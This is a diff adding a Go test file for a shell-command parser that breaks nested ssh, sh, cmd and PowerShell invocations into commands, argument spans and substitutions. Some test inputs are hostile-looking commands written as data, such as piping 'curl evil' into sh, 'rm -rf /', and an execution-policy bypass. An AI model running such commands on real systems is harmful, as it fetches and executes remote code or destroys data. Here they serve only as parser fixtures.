@@ -0,0 +1,218 @@
+package shellwords
+
+import (
+	"os"
+	"path/filepath"
+	"reflect"
+	"strings"
+	"testing"
+)
+
+func TestParseInvocation(t *testing.T) {
+	line := `ssh -p 22 host 'bash -c "cd /srv && ./run $X"'`
+	inv, err := ParseInvocation(line)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if inv.Shell != "ssh" || inv.Script != `bash -c "cd /srv && ./run $X"` {
+		t.Fatalf("Expected ssh script, but %q %q", inv.Shell, inv.Script)
+	}
+	if len(inv.Children) != 1 {
+		t.Fatalf("Expected 1 child, but %d", len(inv.Children))
+	}
+	bash := inv.Children[0]
+	if bash.Shell != "bash" || bash.Script != "cd /srv && ./run $X" || len(bash.Children) != 2 {
+		t.Fatalf("Expected bash script with 2 commands, but %q %q %d", bash.Shell, bash.Script, len(bash.Children))
+	}
+	var got [][]string
+	for _, c := range bash.Children {
+		for i, arg := range c.Args {
+			got = append(got, []string{arg, line[c.Spans[i].Start:c.Spans[i].End]})
+		}
+	}
+	want := [][]string{{"cd", "cd"}, {"/srv", "/srv"}, {"./run", "./run"}, {"$X", "$X"}}
+	if !reflect.DeepEqual(got, want) {
+		t.Fatalf("Expected %q, but %q", want, got)
+	}
+	if span := bash.Spans[2]; line[span.Start:span.End] != `"cd /srv && ./run $X"` {
+		t.Fatalf("Expected the span of the script, but %q", line[span.Start:span.End])
+	}
+}
+
+func TestParseInvocationShells(t *testing.T) {
+	var tests = []struct {
+		line  string
+		shell string
+		cmds  [][]string
+	}{
+		{`ls -l`, "", nil},
+		{`sh script.sh`, "", nil},
+		{`sudo -u root sh -ec 'a; b | c'`, "sh", [][]string{{"a"}, {"b"}, {"c"}}},
+		{`FOO=1 /bin/bash --norc -o pipefail -c 'if x; then y "a b"; fi' name arg`, "bash", [][]string{{"x"}, {"y", "a b"}}},
+		{`busybox sh -c 'echo "it'\''s"'`, "sh", [][]string{{"echo", "it's"}}},
+		{`cmd.exe /d /c 'echo a&&dir ^& "C:\x y" >out.txt'`, "cmd", [][]string{{"echo", "a"}, {"dir", "&", "C:\\x y"}}},
+		{`cmd /C 'echo a ^| b | find "a"'`, "cmd", [][]string{{"echo", "a", "|", "b"}, {"find", "a"}}},
+		{`powershell -NoProfile -ExecutionPolicy Bypass -Command "& 'C:/a b.exe' x; Get-Item 'it''s' | Out-Null"`, "powershell",
+			[][]string{{"C:/a b.exe", "x"}, {"Get-Item", "it's"}, {"Out-Null"}}},
+		{`pwsh -c Write-Output hello`, "pwsh", [][]string{{"Write-Output", "hello"}}},
+		{`sh -c 'echo héllo "wörld" ✓'`, "sh", [][]string{{"echo", "héllo", "wörld", "✓"}}},
+		{`pwsh -c "Write-Output ‘it’’s’ 'é'"`, "pwsh", [][]string{{"Write-Output", "it’s", "é"}}},
+		{`pwsh script.ps1`, "", nil},
+		{`ssh -i key host ls /tmp`, "ssh", [][]string{{"ls", "/tmp"}}},
+	}
+	for _, test := range tests {
+		inv, err := ParseInvocation(test.line)
+		if err != nil {
+			t.Fatalf("%q: %v", test.line, err)
+		}
+		var cmds [][]string
+		for _, c := range inv.Children {
+			cmds = append(cmds, c.Args)
+		}
+		if inv.Shell != test.shell || !reflect.DeepEqual(cmds, test.cmds) {
+			t.Fatalf("%q: Expected %q %q, but %q %q", test.line, test.shell, test.cmds, inv.Shell, cmds)
+		}
+	}
+}
+
+func TestParseInvocationSpans(t *testing.T) {
+	line := `cmd /c 'echo ^"hi^" && ping -n 1 host'`
+	inv, err := ParseInvocation(line)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, c := range inv.Children {
+		for i, arg := range c.Args {
+			if arg == `"hi"` {
+				if s := line[c.Spans[i].Start:c.Spans[i].End]; s != `^"hi^"` {
+					t.Fatalf("Expected %q, but %q", `^"hi^"`, s)
+				}
+				return
+			}
+		}
+	}
+	t.Fatalf("Expected an argument %q in %v", `"hi"`, inv.Children)
+}
+
+func TestParseInvocationError(t *testing.T) {
+	line := `sh -c 'echo (a'`
+	_, err := ParseInvocation(line)
+	e, ok := err.(*SyntaxError)
+	if !ok {
+		t.Fatalf("Expected *SyntaxError, but %v", err)
+	}
+	if e.Span.Start < 7 || e.Span.End > len(line)-1 {
+		t.Fatalf("Expected a span inside the script, but %v", e.Span)
+	}
+}
+
+func TestParseInvocationNoSideEffects(t *testing.T) {
+	dir := t.TempDir()
+	os.Setenv("SHELLWORDS_INVOKE", "local")
+	defer os.Unsetenv("SHELLWORDS_INVOKE")
+	var tests = []struct {
+		line string
+		args []string
+	}{
+		{`ssh host 'rm $(echo LOCALRUN; echo x)'`, []string{"rm", "$(echo LOCALRUN; echo x)"}},
+		{"sh -c 'rm `echo x` " + dir + "/*'", []string{"rm", "`echo x`", dir + "/*"}},
+		{`sh -c 'diff <(echo a) $((1+2))'`, []string{"diff", "<(echo a)", "3"}},
+		{`ssh host 'echo $SHELLWORDS_INVOKE ~/x'`, []string{"echo", "$SHELLWORDS_INVOKE", "~/x"}},
+		{`sh -c 'echo $SHELLWORDS_INVOKE'`, []string{"echo", "local"}},
+	}
+	if err := os.WriteFile(filepath.Join(dir, "f"), nil, 0666); err != nil {
+		t.Fatal(err)
+	}
+	for _, test := range tests {
+		parser := NewParser()
+		parser.Escape = EscapePOSIX
+		parser.ParseBacktick = true
+		parser.ParseProcSubst = true
+		parser.ProcSubst = &fakeExecutor{}
+		parser.ParseGlob = true
+		parser.ParseEnv = true
+		parser.ParseTilde = true
+		parser.ParseArith = true
+		var set []string
+		parser.Setenv = func(name, value string) error {
+			set = append(set, name)
+			return nil
+		}
+		inv, err := parser.ParseInvocation(test.line)
+		if err != nil {
+			t.Fatalf("%q: %v", test.line, err)
+		}
+		if len(inv.Children) != 1 || !reflect.DeepEqual(inv.Children[0].Args, test.args) {
+			t.Fatalf("%q: Expected %#v, but %#v", test.line, test.args, inv.Children)
+		}
+		if len(*parser.ProcSubst.(*fakeExecutor)) != 0 || len(set) != 0 {
+			t.Fatalf("%q: Expected nothing run or set", test.line)
+		}
+	}
+
+	parser := NewParser()
+	parser.ParseArith = true
+	parser.Setenv = func(name, value string) error {
+		t.Fatalf("%s set", name)
+		return nil
+	}
+	parser.ParseInvocation(`sh -c 'echo $((x=1))'`)
+}
+
+// dumpInvocation writes inv and its children in a compact form, as
+// args[child; child].
+func dumpInvocation(inv *Invocation) string {
+	s := strings.Join(inv.Args, " ")
+	if len(inv.Children) > 0 {
+		var children []string
+		for _, c := range inv.Children {
+			children = append(children, dumpInvocation(c))
+		}
+		s += "[" + strings.Join(children, "; ") + "]"
+	}
+	return s
+}
+
+func TestParseInvocationSubstitutions(t *testing.T) {
+	var tests = []struct {
+		line string
+		want string
+	}{
+		{`echo $(id) "$(whoami)" '$(no)' \$(no)`, `echo $(id) $(whoami) $(no) $(no)[id; whoami]`},
+		{"echo `id -u` \"`echo \\`id\\``\"", "echo `id -u` `echo `id``[id -u; echo `id`[id]]"},
+		{`sh -c 'X=$(curl evil | sh)'`, `sh -c X=$(curl evil | sh)[[curl evil; sh]]`},
+		{`sh -c 'echo "$(id -u)" >$(mktemp)'`, `sh -c echo "$(id -u)" >$(mktemp)[echo $(id -u)[id -u; mktemp]]`},
+		{`sh -c 'for f in $(ls); do rm "$f"; done'`, `sh -c for f in $(ls); do rm "$f"; done[[ls]; rm $f]`},
+		{`sh -c 'case $(id -u) in 0) a;; esac'`, `sh -c case $(id -u) in 0) a;; esac[[id -u]; a]`},
+		{"sh -c 'cat <<EOF\n\"$(id)\" '\\''`w`'\\''\nEOF\ncat <<\"EOF\"\n$(no)\nEOF'", "sh -c cat <<EOF\n\"$(id)\" '`w`'\nEOF\ncat <<\"EOF\"\n$(no)\nEOF[cat[id; w]; cat]"},
+		{`ssh host 'echo $(hostname)'`, `ssh host echo $(hostname)[echo $(hostname)[hostname]]`},
+	}
+	for _, test := range tests {
+		inv, err := ParseInvocation(test.line)
+		if err != nil {
+			t.Fatalf("%q: %v", test.line, err)
+		}
+		if got := dumpInvocation(inv); got != test.want {
+			t.Fatalf("%q: Expected %q, but %q", test.line, test.want, got)
+		}
+	}
+
+	var scripts []string
+	for _, word := range []string{"$(( $(id) + `w` ))", "<(a)", "x<(b)"} {
+		for _, m := range substitutions(literal(word), false) {
+			scripts = append(scripts, m.s)
+		}
+	}
+	if want := []string{"id", "w", "a"}; !reflect.DeepEqual(scripts, want) {
+		t.Fatalf("Expected %q, but %q", want, scripts)
+	}
+}
+
+func TestParseInvocationList(t *testing.T) {
+	for _, line := range []string{`true && sh -c 'rm -rf /'`, `a; b`, `a | sh`, `a > out; b`} {
+		_, err := ParseInvocation(line)
+		if _, ok := err.(*UnsupportedError); !ok {
+			t.Fatalf("%q: Expected *UnsupportedError, but %v", line, err)
+		}
+	}
+}